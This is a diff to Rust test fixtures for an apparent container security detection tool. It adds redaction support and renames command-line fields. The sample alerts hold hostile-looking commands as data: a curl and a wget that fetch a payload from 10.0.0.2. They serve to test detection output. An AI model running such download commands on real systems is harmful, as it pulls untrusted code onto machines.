@@ -16,6 +16,7 @@ use uuid::Uuid;
 
 use crate::alert::{Action, Alert, Detection, Message, Place, Step};
 use crate::event::{Body, Direction, Event, Protocol};
+use crate::redact::Redactor;
 use crate::sink::Origin;
 use crate::state::container::{Confirmation, Container, Owner, Pod, Role, Runtime};
 use crate::state::phase::Phase;
@@ -46,6 +47,7 @@ pub(crate) fn origin() -> Origin {
         run_id: "e3b1d6f8-77aa-4f0e-8c66-9b2d5a7c3f33".parse().unwrap(),
         pid: 77,
         version: "0.1.0",
+        redactor: Redactor::default(),
     }
 }
 
@@ -153,10 +155,7 @@ pub(crate) fn alert() -> Alert {
         phase: Some(Phase::Steady),
         user: Some(Arc::from("root")),
         steps: vec![
-            step(
-                0,
-                Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
-            ),
+            step(0, Action::Executed { arguments: "curl -sSLo /tmp/x http://10.0.0.2/payload".into() }),
             step(12, Action::Connected { place: place(None), direction: Direction::Outbound }),
             step(
                 15,
@@ -168,6 +167,7 @@ pub(crate) fn alert() -> Alert {
         steps_omitted: 0,
         bytes_omitted: (0, 0),
         pending: Vec::new(),
+        redacted: 0,
     }
 }
 
@@ -224,7 +224,7 @@ pub(crate) fn stranger() -> Alert {
         time: alert.process.exec_time - 3_000 * MILLISECOND,
         by: ProcessKey { pid: 4200, start_time: 1 },
         image: "/usr/bin/wget".to_owned(),
-        command_line: "wget http://10.0.0.2/x".to_owned(),
+        arguments: "wget http://10.0.0.2/x".into(),
         received: Some(262_144),
     };
     let process = Arc::make_mut(&mut alert.process);
@@ -282,7 +282,7 @@ fn hostile_process(pid: u32) -> Arc<Process> {
                 time: 1,
                 by: ProcessKey { pid: 7, start_time: 1 },
                 image: hostile_text(),
-                command_line: hostile_text(),
+                arguments: hostile_text().as_str().into(),
                 received: Some(u64::MAX),
             })),
             file: None,
@@ -353,7 +353,7 @@ pub(crate) fn hostile() -> Alert {
     alert.related = vec![alert.detection.clone(); 8];
     alert.story = story::hostile(&hostile_text());
     let steps = [
-        Action::Executed { command_line: hostile_text() },
+        Action::Executed { arguments: hostile_text().as_str().into() },
         Action::Opened { path: hostile_text() },
         Action::Connected { place: place(Some(&hostile_text())), direction: Direction::Unknown },
         Action::Failed { place: place(Some(&hostile_text())), error: 0 },
